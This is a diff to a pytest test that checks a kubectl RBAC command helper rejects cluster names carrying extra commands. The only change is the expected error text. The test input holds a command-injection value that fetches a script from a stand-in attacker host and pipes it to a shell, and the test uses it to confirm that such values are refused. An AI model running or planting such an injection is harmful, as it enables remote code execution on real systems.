@@ -61,7 +61,7 @@ def test_a_login_to_be_pasted_is_one_word_of_the_hubs(capsys: pytest.CaptureFixt
 def test_a_command_to_be_pasted_names_a_cluster_and_nothing_else(capsys: pytest.CaptureFixture[str]) -> None:
     say_apply_rbac({"apply_rbac": ["prod"]})
     assert "hawse admin cluster rbac prod | kubectl" in capsys.readouterr().err
-    with pytest.raises(CommandError, match="a name that is refused"):
+    with pytest.raises(CommandError, match="an invalid name"):
         say_apply_rbac({"apply_rbac": ["prod", "x; curl evil.example | sh"]})
     assert capsys.readouterr().err == ""
 
